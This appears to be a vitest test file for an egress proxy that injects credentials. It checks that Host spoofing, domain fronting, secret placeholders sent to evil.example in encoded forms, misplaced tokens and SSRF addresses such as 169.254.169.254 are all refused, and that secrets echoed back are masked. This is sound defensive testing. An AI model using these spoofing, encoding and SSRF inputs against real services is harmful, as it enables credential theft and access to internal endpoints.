import { describe, expect, it, test } from 'vitest'
import { isPermitted } from '../../src/egress/address.ts'
import { createMasks } from '../../src/proxy/mask/mask.ts'
import type { Asked, Header } from '../../src/proxy/rules/asked.ts'
import { createRules } from '../../src/proxy/rules/decide.ts'
import { REASONS, refusalBody, refusalOf } from '../../src/proxy/rules/refusals.ts'
import * as w from './rules-world.ts'

/**
 * The attack list: each is a defect that some proxy had. Here are those that the rules alone decide; those that need sockets are in
 * attacks-traffic.test.ts.
 */
const rules = createRules(w.WORLD)
const { ask } = w
const API = 'https://api.github.example'
const bearer = { Authorization: `Bearer ${w.GITHUB}` }

function outcome(asked: Asked): string {
  const verdict = rules.decide(asked)
  return verdict.kind === 'refuse' ? verdict.reason : verdict.kind
}
const get = (path: string, headers: Record<string, string> | readonly Header[] = bearer) =>
  outcome(ask('GET', `${API}${path}`, headers))
const withHeaders = (...headers: Header[]) =>
  outcome(ask('POST', `${API}/repos/acme/shop/issues`, [['Host', 'api.github.example'], ...headers]))
const auth: Header = ['Authorization', `Bearer ${w.GITHUB}`]

test('none of these tests can pass because everything is refused', () => {
  expect(get('/public/x')).toBe('inject')
  expect(withHeaders(auth, ['Content-Length', '2'])).toBe('inject')
  expect(withHeaders(auth, ['Transfer-Encoding', 'chunked'])).toBe('inject')
})

describe('Host spoofing and domain fronting', () => {
  it.each([
    ...[
      'evil.example',
      'api.github.example.evil.example',
      'api.github.example:8443',
      'api.github.example:80',
    ],
    ...['xapi.github.example', 'github.example', '127.0.0.1', 'аpi.github.example'],
  ])('a connection to the backend does not take Host %s', (host) => {
    const spoofed = get('/public/x', { ...bearer, Host: host })
    expect(['wrong_host', 'bad_host', 'bad_framing']).toContain(spoofed)
  })

  it.each([
    ...['', 'a b', 'user@api.github.example', 'api.github.example/x', 'api.github.example,evil.example'],
    ...['api.github.example:443:80', 'api.github.example:', '%61pi.github.example', 'api.github.example#'],
  ])('refuses the Host %j', (host) => {
    expect(get('/public/x', { ...bearer, Host: host })).toBe('bad_host')
  })

  it('a connection elsewhere gets no secret because Host names the backend', () => {
    const asked = ask('GET', 'https://evil.example/public/x', { ...bearer, Host: 'api.github.example' })
    expect(rules.decide(asked)).toMatchObject({ reason: 'elsewhere', misused: { name: 'github' } })
  })

  it('takes every form of the one right Host', () => {
    for (const host of [
      'API.GitHub.Example',
      'api.github.example.',
      'api.github.example:443',
      'ａpi.github.example',
    ]) {
      const latin1 = Buffer.from(host).toString('latin1')
      const expected = host === 'ａpi.github.example' ? ['wrong_host', 'bad_host'] : ['inject']
      expect(expected, host).toContain(get('/public/x', { ...bearer, Host: latin1 }))
    }
  })

  it('refuses no Host, two of them, and an absolute form that says otherwise', () => {
    expect(outcome(ask('GET', `${API}/public/x`, { ...bearer, host: '' }))).toBe('bad_host')
    expect(outcome({ ...ask('GET', `${API}/public/x`), headers: [auth] })).toBe('bad_host')
    expect(withHeaders(['host', 'api.github.example'], auth)).toBe('bad_host')
    const absolute = (target: string) => outcome(ask('GET', `${API}/`, bearer, { target }))
    expect(absolute(`${API}/public/x`)).toBe('inject')
    expect(absolute('HTTPS://API.GITHUB.EXAMPLE:443/public/x')).toBe('inject')
    for (const target of [
      ...[
        'https://evil.example/public/x',
        'http://api.github.example/public/x',
        'https://api.github.example:8443/',
      ],
      ...[
        'https://u@api.github.example/public/x',
        'https:///public/x',
        'ftp://api.github.example/',
        'public/x',
        '*',
      ],
      ...['//api.github.example/x', '', '/public/x\u0000', '/public/x y', '/public/\r\nx'],
    ]) {
      expect(['bad_target', 'path_not_allowed', 'slash_not_allowed'], target).toContain(absolute(target))
    }
  })

  it('sends an absolute form as a path', () => {
    const verdict = rules.decide(ask('GET', `${API}/`, bearer, { target: `${API}/public/x?a=1` }))
    expect(verdict.kind === 'inject' && verdict.apply(w.WORLD[0].live)).toMatchObject({
      target: '/public/x?a=1',
    })
  })
})

describe('a placeholder at an authority, port or scheme that is not its own', () => {
  it.each([
    ...['https://evil.example/', `${API}:8443/public/x`, 'http://api.github.example/public/x'],
    ...[
      'http://api.github.example:443/public/x',
      'https://model.example/v1/models',
      'https://api.github.example.evil/',
    ],
    ...['https://sub.api.github.example/public/x', 'https://127.0.0.1/public/x', 'https://[::1]/public/x'],
  ])('%s is misuse', (url) => {
    expect(rules.decide(ask('GET', url, bearer))).toMatchObject({
      reason: 'elsewhere',
      misused: { name: 'github' },
    })
  })

  it('is misuse in every form, wherever it stands in the head', () => {
    const forms = [
      w.GITHUB,
      Buffer.from(w.GITHUB).toString('base64'),
      Buffer.from(`x:${w.GITHUB}`).toString('base64'),
      Buffer.from(`xy:${w.GITHUB}z`).toString('base64url'),
      w.GITHUB.replace('p', '%70'),
      Buffer.from(w.GITHUB).toString('hex').replace(/../g, '%$&'),
      w.GITHUB.replace('p', '\\u0070'),
      encodeURIComponent(Buffer.from(`:${w.GITHUB}`).toString('base64')),
    ]
    for (const form of forms) {
      const requests = [
        ask('GET', 'https://evil.example/', { 'X-A': `before ${form} behind` }),
        ask('GET', 'https://evil.example/', { Cookie: `a=${form}` }),
        ask('GET', `https://evil.example/${form.replaceAll('\\', '%5c')}`),
        ask('GET', `https://evil.example/?a=${form}`),
      ]
      const [first, second, path, query] = requests.map(outcome)
      expect([first, second, query]).toEqual(['elsewhere', 'elsewhere', 'elsewhere'])
      if (!form.includes('\\')) expect(path).toBe('elsewhere')
    }
    expect(outcome(ask('GET', 'https://evil.example/', [[w.GITHUB, 'name']]))).toBe('elsewhere')
    expect(outcome(ask('GET', 'https://evil.example/', { 'Proxy-Authorization': w.GITHUB }))).toBe(
      'elsewhere',
    )
  })

  it('is misuse for one of a database, too', () => {
    const asked = ask('GET', `${API}/public/x`, { 'X-A': w.DATABASE })
    expect(rules.decide(asked)).toMatchObject({ reason: 'elsewhere', misused: { name: 'orders.password' } })
  })

  it('is an alarm even where the request is malformed', () => {
    const headers: Header[] = [...Object.entries(bearer), ['Content-Length', '1'], ['Content-Length', '2']]
    expect(outcome(ask('POST', 'https://evil.example/', headers))).toBe('elsewhere')
  })

  it('is found in a body, however it is cut', () => {
    const forms = [
      w.GITHUB,
      Buffer.from(`ab${w.GITHUB}`).toString('base64'),
      Buffer.from(`a${w.GITHUB}`).toString('base64url'),
    ]
    for (const form of forms) {
      const body = Buffer.from(`{"env":"${'x'.repeat(300)}${form}"}`)
      for (const size of [1, 2, 7, 64, 300, 1_000]) {
        const search = rules.search.open()
        const parts = Array.from({ length: Math.ceil(body.length / size) }, (_, index) =>
          search.push(body.subarray(index * size, (index + 1) * size)),
        )
        expect(parts.find((one) => one !== undefined)?.name, `${form} by ${size}`).toBe('github')
      }
    }
    const clean = rules.search.open()
    expect([
      clean.push(Buffer.from(w.GITHUB.slice(0, 20))),
      clean.push(Buffer.from(w.GITHUB.slice(21))),
    ]).toEqual([undefined, undefined])
  })
})

describe('a placeholder in the wrong place of its own authority', () => {
  it.each<[string, Asked]>([
    ['another header', ask('GET', `${API}/public/x`, { 'X-A': w.GITHUB })],
    ['a cookie', ask('GET', `${API}/public/x`, { Cookie: `a=${w.GITHUB}` })],
    ['a part of the header', ask('GET', `${API}/public/x`, { Authorization: `Bearer ${w.GITHUB}x` })],
    ['behind two words', ask('GET', `${API}/public/x`, { Authorization: `Bearer a ${w.GITHUB}` })],
    [
      'two values',
      ask('GET', `${API}/public/x`, { Authorization: `Bearer ${w.GITHUB}, Bearer ${w.GITHUB}` }),
    ],
    ['two headers', ask('GET', `${API}/public/x`, [auth, auth])],
    ['the query', ask('GET', `${API}/public/x?token=${w.GITHUB}`)],
    ['the path', ask('GET', `${API}/public/${w.GITHUB}`)],
    ['the right place and one more', ask('GET', `${API}/public/x?a=${w.GITHUB}`, bearer)],
    ['the name of a header', ask('GET', `${API}/public/x`, [[w.GITHUB, 'x']])],
    [
      'Basic, inside of a password',
      ask('GET', `${API}/public/x`, { Authorization: `Basic ${btoa(`a:b${w.GITHUB}`)}` }),
    ],
    ['Basic without a colon', ask('GET', `${API}/public/x`, { Authorization: `Basic ${btoa(w.GITHUB)}` })],
    ['a header that Connection names', ask('GET', `${API}/public/x`, { 'x-a': w.GITHUB, Connection: 'x-a' })],
    ['a parameter twice', ask('GET', `https://model.example/v1/x?key=${w.MODEL}&key=${w.MODEL}`)],
    ['a parameter whose name is escaped twice', ask('GET', `https://model.example/v1/x?%256bey=${w.MODEL}`)],
    ['a fragment of a parameter', ask('GET', `https://model.example/v1/x?key=a;key=${w.MODEL}`)],
    ['the path twice', ask('GET', `https://bot.example/bot${w.BOT}/${w.BOT}`)],
    ['the path, escaped', ask('GET', `https://bot.example/bot${w.BOT.replace('m', '%6d')}/x`)],
  ])('%s', (_name, asked) => {
    expect(rules.decide(asked)).toMatchObject({ reason: 'misplaced', misused: { held: {} } })
  })
})

describe('server-side request forgery', () => {
  it.each([
    ...[
      '169.254.169.254',
      'fd00:ec2::254',
      '::ffff:169.254.169.254',
      '127.0.0.1',
      '::1',
      '0.0.0.0',
      '169.254.1.1',
    ],
    ...['fe80::1', 'fc00::1', '64:ff9b::7f00:1', '2002:7f00:1::', '::ffff:7f00:1'],
  ])('no address %s is connected to unless a use is local', (address) => {
    expect(isPermitted(address, false)).toBe(false)
  })

  it('every way to write an address is the address', () => {
    const loopback = ['127.1', '0x7f000001', '2130706433', '0177.0.0.1', '127.0.0.1.']
    for (const host of loopback) {
      const asked = ask('GET', 'http://127.0.0.1:8200/v1/x', {
        'X-Vault-Token': w.VAULT,
        Host: `${host}:8200`,
      })
      expect(outcome({ ...asked, authority: `${host}:8200` }), host).toBe('inject')
    }
  })

  it('puts nothing into plain HTTP of another machine', () => {
    expect(outcome(ask('GET', 'http://vault.example/v1/x', { 'X-Vault-Token': w.VAULT }))).toBe('plain_http')
    expect(outcome(ask('GET', 'http://vault.example/v1/x'))).toBe('plain_http')
  })
})

test('what the upstream echoes is masked, a Location and a cookie included', () => {
  const mask = createMasks(w.WORLD[0].live.secrets.values()).mask()
  const pair = Buffer.from(`x-access-token:${w.GITHUB_SECRET}`).toString('base64')
  const raw = [
    'Location',
    `https://a.example/?t=${w.GITHUB_SECRET}`,
    'Set-Cookie',
    `t=${w.GITHUB_SECRET}`,
    'X-Echo',
    `Basic ${pair}`,
  ]
  const masked = mask.headers(raw).join('\n')
  expect(masked).not.toContain(w.GITHUB_SECRET.slice(0, 12))
  expect(masked).not.toContain(Buffer.from(w.GITHUB_SECRET).toString('base64').slice(4, 20))
  expect(masked).toHaveLength(raw.join('\n').length)
  expect(mask.count).toBe(3)
})

test('no refusal repeats anything of a request, and each names a code and a status of failure', () => {
  for (const reason of REASONS) {
    const { status, code, message } = refusalOf(reason)
    expect(status).toBeGreaterThanOrEqual(400)
    expect(code).toBe(`proxy_${reason}`)
    expect(JSON.parse(refusalBody(reason))).toEqual({ error: { code, message } })
  }
})
